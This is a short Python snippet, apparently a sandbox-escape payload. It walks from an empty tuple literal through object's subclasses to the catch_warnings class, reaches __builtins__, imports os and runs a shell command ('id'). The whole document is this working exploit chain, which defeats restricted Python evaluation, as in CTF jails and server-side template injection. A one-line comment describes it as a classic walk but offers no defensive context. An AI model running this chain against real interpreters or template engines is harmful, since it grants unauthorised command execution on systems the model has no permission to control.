# the classic walk from a literal to every class in the interpreter
for c in ().__class__.__mro__[1].__subclasses__():
    if c.__name__ == "catch_warnings":
        c()._module.__builtins__["__import__"]("os").system("id")
